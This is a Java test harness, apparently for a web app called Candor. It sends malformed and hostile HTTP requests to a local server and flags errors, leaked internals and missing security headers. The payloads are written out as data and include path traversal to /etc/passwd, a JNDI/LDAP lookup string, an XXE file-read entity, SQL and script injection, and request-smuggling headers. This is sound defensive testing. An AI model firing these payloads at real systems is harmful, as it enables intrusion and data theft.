import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

/**
 * Sends hostile requests byte by byte to a running Candor and says what came back. Fails if an answer is of class 5xx, shows a stack
 * trace or an internal name, believes a forged host, or lacks the protecting headers.
 *
 * <p>Run: {@code java bench/BadRequests.java http://localhost:8080 orchestrate}
 */
public class BadRequests {

    private static final List<String> REVEALING = List.of(
            "Exception", "\tat ", "io.candor", "io.undertow", "jakarta.", "WildFly", "Undertow", "UT00", "evil.example", "root:x:");
    private static final List<String> PROTECTING =
            List.of("content-security-policy:", "x-content-type-options: nosniff", "referrer-policy:", "x-frame-options:");

    private final String host;
    private final int port;
    private final Map<String, Integer> statuses = new TreeMap<>();
    private final List<String> faults = new ArrayList<>();
    private int sent;

    private BadRequests(URI base) {
        host = base.getHost();
        port = base.getPort() < 0 ? 80 : base.getPort();
    }

    public static void main(String[] arguments) throws IOException {
        var run = new BadRequests(URI.create(arguments.length > 0 ? arguments[0] : "http://localhost:8080"));
        String centre = "/c/" + (arguments.length > 1 ? arguments[1] : "orchestrate");
        run.paths(centre);
        run.hosts(centre);
        run.headers(centre);
        run.methods(centre);
        run.malformed(centre);
        run.consents("/api/v1/tenants/" + centre.substring("/c/".length()));
        run.faults.forEach(System.out::println);
        System.out.println(run.sent + " requests, answers by status " + run.statuses + ", faults " + run.faults.size());
        System.exit(run.faults.isEmpty() ? 0 : 1);
    }

    private void paths(String centre) {
        List<String> paths = new ArrayList<>(List.of(
                "/c/nobody/", "/c/", "/c", "/c//", "//c/x/", "/c/%6frchestrate/", "/c/orchestrate%2fpolicy", "/c/..%2f..%2fetc/passwd",
                "/c/%00/", "/c/%/", "/c/%zz/", "/c/%c0%ae%c0%ae/", "/c/orch%D0%B5strate/", "/c/ORCHESTRATE/", "/c/orchestrate.;/",
                "/c/#{7*7}/", "/c/${7*7}/", "/c/%23%7B7*7%7D/", "/../../../../etc/passwd", "/..;/WEB-INF/web.xml", "/WEB-INF/web.xml",
                "/META-INF/MANIFEST.MF", "/web-inf/classes/", "/home/home.xhtml", "/policy/policy.xhtml", "/error/error.xhtml",
                "/internal/logo", "/internal/policy-document", "/jakarta.faces.resource/x.xhtml?ln=../..", "/jakarta.faces.resource/",
                "/index.html", "/favicon.ico", "/robots.txt", "/assets/", "/assets/../WEB-INF/web.xml", "/assets/%2e%2e/WEB-INF/web.xml",
                "/assets/nothing.css", "/assets/centre.css?v=%00", "/api/", "/api/openapi", "/api/openapi?format=x", "/api/v1/tenants/nobody/policy", "/console/..%2f", "/account/nobody",
                "/dev/", "/health", "/metrics", "/management", "/c/" + "a".repeat(41) + "/", "/" + "a".repeat(5_000), "/" + "a/".repeat(5_000),
                "/?" + "a=b&".repeat(1_000), "/?" + "a".repeat(30_000), "/" + "%61".repeat(8_000)));
        for (String inside : List.of(
                "", "/nothing", "//", "/policy/", "/policy//", "/policy;x=1", "/policy;jsessionid=1", "/policy%2fversions", "/policy\\versions",
                "/policy/versions/0", "/policy/versions/-1", "/policy/versions/99", "/policy/versions/99999", "/policy/versions/999999999999",
                "/policy/versions/1e1", "/policy/versions/%31", "/policy/versions/\u0661", "/policy/compare/1/99", "/policy/compare/1",
                "/policy/compare/1/1", "/policy/compare/0/0", "/policy/../../../etc/passwd", "/policy/..", "/policy/.", "/policy.", "/policy.html",
                "/policy.md.exe", "/policy?lang=xx", "/policy?lang=", "/policy?lang=de&lang=en", "/policy?lang=%00", "/policy?lang=../../x",
                "/policy?lang=<script>", "/policy?%", "/policy?lang=%zz", "/policy?x=" + "y".repeat(10_000), "/policy#x", "/promises?x[]=1",
                "/feed.atom", "/policy/feed.atom?lang=xx", "/brand.css?x=1", "/logo.svg?x=1", "/home/home.xhtml", "/WEB-INF/web.xml")) {
            paths.add(centre + inside);
        }
        for (String path : paths) {
            send("GET", path, "localhost");
            send("HEAD", path, "localhost");
        }
    }

    private void hosts(String centre) {
        for (String name : List.of(
                "evil.example", "", " ", "localhost.evil.example", "evil.example:80", "localhost:evil", "orchestrate.localhost.evil.example",
                "ORCHESTRATE.LOCALHOST", "..localhost", "-.localhost", "[::1", "::1", "1.2.3.4", "localhost@evil.example", "localhost/evil",
                "a".repeat(300), "nobody.localhost", "xn--rchestrate-xzg.localhost", "localhost\t", "%6cocalhost", "loc\u0430lhost", "evil.example, localhost")) {
            send("GET", centre + "/policy", name);
            send("GET", centre, name);
            send("GET", "/", name);
            send("GET", "/console/", name);
            send("GET", "/account/orchestrate", name);
            send("GET", "/assets/centre.css", name);
        }
        raw("GET http://evil.example" + centre + "/policy HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
        raw("GET " + centre + "/policy HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\nConnection: close\r\n\r\n");
        raw("GET " + centre + " HTTP/1.0\r\n\r\n");
        raw("GET " + centre + "/policy HTTP/1.1\r\nConnection: close\r\n\r\n");
    }

    private void headers(String centre) {
        List<String> lines = new ArrayList<>(List.of(
                "X-Forwarded-Host: evil.example", "X-Forwarded-For: 127.0.0.1", "X-Forwarded-Proto: https", "X-Forwarded-Prefix: /evil.example",
                "Forwarded: host=evil.example;proto=https", "X-Original-URL: /console/", "X-Rewrite-URL: /WEB-INF/web.xml",
                "X-HTTP-Method-Override: DELETE", "X-Forwarded-Port: 99999", "X-Real-IP: ' or 1=1", "Accept: ;;q=,", "Accept: " + "a/b,".repeat(5_000),
                "Accept-Language: " + "de;q=x,".repeat(3_000), "Accept-Language: \u0000", "Accept-Encoding: " + "br;q=,".repeat(3_000),
                "Accept-Encoding: identity;q=0, *;q=0", "If-None-Match: \"", "If-None-Match: " + "\"x\",".repeat(3_000), "If-Modified-Since: never",
                "Range: bytes=0-1", "Range: bytes=-1--1", "Cookie: " + "a=b; ".repeat(200), "Cookie: JSESSIONID=../../x", "Content-Length: 10",
                "Content-Length: -1", "Content-Length: 99999999999999999999", "Content-Type: multipart/form-data", "Transfer-Encoding: chunked",
                "Transfer-Encoding: x", "Expect: 100-continue", "Upgrade: h2c", "Authorization: Bearer x", "Authorization: Basic !!!",
                "Origin: null", "X: " + "y".repeat(20_000), "X: " + "y".repeat(60_000), "X: " + "y".repeat(2_000_000)));
        for (String line : lines) {
            for (String path : List.of(centre, centre + "/", centre + "/policy", "/", "/console/", "/account/orchestrate")) {
                send("GET", path, "localhost", line);
            }
        }
        StringBuilder many = new StringBuilder();
        for (int i = 0; i < 500; i++) {
            many.append("X-").append(i).append(": 1\r\n");
        }
        send("GET", centre + "/policy", "localhost", many.toString().strip());
    }

    private void methods(String centre) {
        for (String method : List.of(
                "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "get", "G\u00cbT", "X".repeat(5_000), "GET\u0000")) {
            for (String path : List.of(centre, centre + "/", centre + "/policy", "/", "/assets/centre.css", "/nothing", "/console/")) {
                send(method, path, "localhost", "Content-Length: 3\r\n\r\na=b");
            }
        }
    }

    private void malformed(String centre) {
        for (String request : List.of(
                "\r\n\r\n", "GET\r\n\r\n", "GET /\r\n\r\n", "GET / HTTP/9.9\r\nHost: localhost\r\nConnection: close\r\n\r\n", "\u0000\u0000\u0000\r\n\r\n",
                "GET " + centre + "/policy HTTP/1.1\r\nHost: localhost\r\n folded: x\r\nConnection: close\r\n\r\n",
                "GET / HTTP/1.1\r\nHost : localhost\r\nConnection: close\r\n\r\n", "GET / HTTP/1.1\r\n: x\r\nConnection: close\r\n\r\n",
                "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\n\r\n",
                "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "GET * HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", "OPTIONS * HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")) {
            raw(request);
        }
    }

    private void consents(String tenant) {
        String good = "{\"key\":\"AAAAAAAAAAAAAAAAAAAAAA\",\"subject\":\"BBBBBBBBBBBBBBBBBBBBBB\",\"notice\":1,\"language\":\"en\","
                + "\"choices\":{\"nothing-of-the-kind\":true},\"method\":\"api\",\"givenAt\":\"2026-11-22T04:00:00Z\"}";
        List<String> bodies = new ArrayList<>(List.of(
                good, "", " ", "null", "0", "\"\"", "[]", "{}", "{", "}", "{{", "{\"key\"", "{\"key\":", "{\"key\":\"", good + good, "[" + good + "]", "\u0000",
                "\ufeff" + good, "[".repeat(4_000), "{\"choices\":".repeat(300), "{\"key\":\"\\ud800\"}", "{\"key\":\"\\u0000\"}", "{\"\":1}", "{\"__proto__\":{}}",
                "{\"notice\":1e999999999}", "{\"notice\":-0}", "{\"notice\":NaN}", "{\"notice\":" + "9".repeat(3_000) + "}", "{\"a\":1" + ",\"a\":1".repeat(500) + "}",
                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>", "key=AAAA&subject=BBBB", "x".repeat(4_097), "x".repeat(1_000_000)));
        for (String part : List.of("AAAAAAAAAAAAAAAAAAAAAA", "BBBBBBBBBBBBBBBBBBBBBB", "\"en\"", "api", "2026-11-22T04:00:00Z", "nothing-of-the-kind")) {
            for (String instead : List.of(
                    "", "' or '1'='1", "${jndi:ldap://evil.example/x}", "#{7*7}", "<script>alert(1)</script>", "../../../etc/passwd", "\\u0000", "\u202e", "\ud83d\ude00",
                    "x".repeat(3_500), "%00", "\\", "9999-12-31T23:59:59.999999999Z", "-999999999-01-01T00:00:00Z", "null", "true")) {
                bodies.add(good.replace(part, instead));
            }
        }
        for (String body : bodies) {
            post(tenant + "/consents", "application/json", body, "");
            post(tenant + "/consents/verifications", "application/json", body, "");
            post(tenant + "/consents/verifications", "application/json", "{\"receipt\":\"" + body.replace("\\", "\\\\").replace("\"", "\\\"") + "\"}", "");
        }
        for (String type : List.of("", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json;charset=utf-7", "application/json, text/plain", "*/*", "x".repeat(3_000))) {
            post(tenant + "/consents", type, good, "");
        }
        for (String line : List.of(
                "Origin: null", "Origin: https://evil.example", "Origin: ", "Origin: https://a.example\r\nOrigin: https://b.example", "Origin: " + "x".repeat(5_000),
                "Content-Encoding: gzip", "Content-Encoding: br", "Expect: 100-continue", "User-Agent: " + "(".repeat(8_000), "User-Agent: " + "Mozilla/5.0 ".repeat(600),
                "Accept-Language: " + "de;q=x,".repeat(2_000), "X-Forwarded-For: 1.2.3.4", "X-HTTP-Method-Override: DELETE")) {
            post(tenant + "/consents", "application/json", good, line + "\r\n");
        }
        for (String path : List.of(
                "/api/v1/tenants//consents", "/api/v1/tenants/nobody/consents", "/api/v1/tenants/../consents", "/api/v1/tenants/%6frchestrate/consents",
                "/api/v1/tenants/" + "a".repeat(5_000) + "/consents", tenant + "/consents;x=1", tenant + "/consents/", tenant + "//consents", tenant + "/consents%2f", tenant + "/consents/verifications/x")) {
            post(path, "application/json", good, "");
        }
        for (String path : List.of(
                "/consents/keys?x", "/consents/checkpoints?below=-1", "/consents/checkpoints?limit=99999999999999999999", "/consents/checkpoints?limit=%00",
                "/consents/consistency", "/consents/consistency?from=0&to=0", "/consents/consistency?from=9223372036854775807&to=9223372036854775807",
                "/consents/consistency?from=2&to=1", "/consents/consistency?from=1&from=2&to=3", "/consent-notices/0", "/consent-notices/-1", "/consent-notices/999999999",
                "/consent-notices/9999999999", "/consent-notices/1?lang=", "/consent-notices/1?lang=%00", "/consent-notices/1?lang=../../x", "/consent-notices/1?lang=" + "x".repeat(5_000))) {
            send("GET", tenant + path, "localhost");
        }
    }

    private void post(String path, String type, String body, String more) {
        raw("POST " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" + more + (type.isEmpty() ? "" : "Content-Type: " + type + "\r\n")
                + "Content-Length: " + body.getBytes(StandardCharsets.UTF_8).length + "\r\n\r\n" + body);
    }

    private void send(String method, String path, String name, String... lines) {
        String more = lines.length == 0 ? "" : lines[0] + "\r\n";
        boolean body = more.contains("\r\n\r\n");
        raw(method + " " + path + " HTTP/1.1\r\nHost: " + name + "\r\nConnection: close\r\n" + more + (body ? "" : "\r\n"));
    }

    private void raw(String request) {
        sent++;
        String answer = exchange(request);
        if (answer.startsWith("HTTP/1.1 100")) {
            answer = answer.substring(answer.indexOf("\r\n\r\n") + 4);
        }
        String first = answer.lines().findFirst().orElse("closed");
        String status = first.startsWith("HTTP/1.") ? first.split(" ")[1] : "closed";
        statuses.merge(status, 1, Integer::sum);
        String shown = request.length() > 120 ? request.substring(0, 120) + "..." : request;
        String where = shown.replace("\r\n", " | ");
        if (status.startsWith("5")) {
            faults.add(status + " for " + where);
        }
        if (status.startsWith("2") && request.startsWith("POST /api/")) {
            faults.add(status + " for " + where);
        }
        for (String word : REVEALING) {
            if (answer.contains(word)) {
                faults.add("'" + word + "' in the answer to " + where);
            }
        }
        int end = answer.indexOf("\r\n\r\n");
        String head = (end < 0 ? answer : answer.substring(0, end)).toLowerCase(java.util.Locale.ROOT);
        if (answer.length() > end + 4 && end > 0) {
            PROTECTING.stream()
                    .filter(header -> !head.contains(header))
                    .forEach(header -> faults.add("no " + header + " with " + status + " for " + where));
        }
        if (head.contains("\nserver:") || head.contains("x-powered-by") || head.contains("set-cookie") && request.contains("/c/")) {
            faults.add("a header too many for " + where);
        }
    }

    private String exchange(String request) {
        var answer = new ByteArrayOutputStream();
        try (var socket = new Socket(host, port)) {
            socket.setSoTimeout(5_000);
            try {
                socket.getOutputStream().write(request.getBytes(StandardCharsets.UTF_8));
                socket.getOutputStream().flush();
            } catch (IOException cutOff) {
                // The server may hang up on an endless header; what it said before counts.
            }
            InputStream in = socket.getInputStream();
            byte[] buffer = new byte[8_192];
            for (int n = in.read(buffer); n >= 0; n = in.read(buffer)) {
                answer.write(buffer, 0, n);
            }
        } catch (IOException closed) {
            // Closed without a word, or kept waiting: counted as closed.
        }
        return answer.toString(StandardCharsets.UTF_8);
    }
}
